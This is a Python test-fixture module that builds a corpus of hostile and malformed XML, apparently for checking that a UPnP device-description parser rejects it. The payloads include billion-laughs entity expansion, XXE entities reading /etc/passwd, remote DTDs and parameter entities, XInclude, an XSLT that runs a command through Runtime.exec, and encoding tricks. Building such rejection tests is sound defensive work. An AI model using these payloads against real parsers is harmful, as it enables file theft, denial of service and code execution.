"""XML that a device could send to do harm: at least thirteen kinds, of our own writing."""

HEAD = b'<?xml version="1.0"?>\n'
SERVICE = (
    b"<service><serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType>"
    b"<controlURL>/ctl/IPConn</controlURL></service>"
)


def entities(count: int, width: int) -> bytes:
    lines = [b'<!ENTITY e0 "ha">']
    for i in range(1, count):
        lines.append(b'<!ENTITY e%d "%s">' % (i, b"&e%d;" % (i - 1) * width))
    return b"\n".join(lines)


def document(dtd: bytes, text: bytes = b"") -> bytes:
    """A description that would do, but for its DTD."""
    return HEAD + dtd + b"<root><device>" + text + SERVICE + b"</device></root>"


BAD_XML = {
    "entities that double": document(b"<!DOCTYPE root [%s]>" % entities(30, 10), b"&e29;"),
    "entities that double, in an attribute": (
        HEAD + b'<!DOCTYPE root [%s]><root a="&e29;">%s</root>' % (entities(30, 10), SERVICE)
    ),
    "one long entity, often": document(b'<!DOCTYPE root [<!ENTITY long "%s">]>' % (b"x" * 20_000), b"&long;" * 5000),
    "entities in a circle": document(b'<!DOCTYPE root [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', b"&a;"),
    "a harmless entity": document(b'<!DOCTYPE root [<!ENTITY a "b">]>', b"&a;"),
    "an entity from a file": document(b'<!DOCTYPE root [<!ENTITY a SYSTEM "file:///etc/passwd">]>', b"&a;"),
    "an entity from a server": document(b'<!DOCTYPE root [<!ENTITY a SYSTEM "http://192.168.1.3/">]>', b"&a;"),
    "parameter entities": document(b'<!DOCTYPE root [<!ENTITY % p SYSTEM "http://192.168.1.3/"> %p;]>'),
    "a DTD from a server": document(b'<!DOCTYPE root SYSTEM "http://192.168.1.3/evil.dtd">'),
    "a public DTD": document(b'<!DOCTYPE root PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://192.168.1.3/x.dtd">'),
    "an empty DTD": document(b"<!DOCTYPE root>"),
    "default attributes": document(b'<!DOCTYPE root [<!ATTLIST root a CDATA "b">]>'),
    "a notation": document(b'<!DOCTYPE root [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "y" NDATA n>]>'),
    "an entity that nobody declared": document(b"", b"&what;"),
    "a style sheet": document(b'<?xml-stylesheet href="http://192.168.1.3/a.xsl" type="text/xsl"?>'),
    "an instruction": document(b"<?php echo 1 ?>"),
    "a transformation that runs a program": (
        HEAD + b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
        b'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/">'
        b'<xsl:variable name="r" select="rt:exec(rt:getRuntime(), \'id\')"/></xsl:template></xsl:stylesheet>'
    ),
    "an inclusion": HEAD + b'<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></root>',
    "another encoding": document(b"").decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"),
    "a DTD in UTF-7": HEAD.replace(b'"1.0"', b'"1.0" encoding="utf-7"')
    + b"+ADwAIQ-DOCTYPE root+AFsAPAAh-ENTITY a +ACI-b+ACIAPgBdAD4-"
    + document(b"")[len(HEAD) :],
    "very deep": HEAD + b"<a>" * 5000 + SERVICE + b"</a>" * 5000,
    "very many": HEAD + b"<root>" + b"<a/>" * 10_000 + SERVICE + b"</root>",
    "very long": HEAD + b"<root>" + b" " * 70_000 + SERVICE + b"</root>",
    "a long text": HEAD + b"<root><friendlyName>" + b"x" * 2000 + b"</friendlyName>" + SERVICE + b"</root>",
    "attributes twice": HEAD + b'<root a="1" a="2">' + SERVICE + b"</root>",
    "not closed": HEAD + b"<root>" + SERVICE,
    "two roots": document(b"") + b"<root/>",
    "bytes that are no UTF-8": document(b"", b"\xff\xfe"),
    "a zero": document(b"", b"\0"),
    "no XML": b"hello",
    "nothing": b"",
    "HTML": b"<html><body><p>Log in<br></body></html>",
}
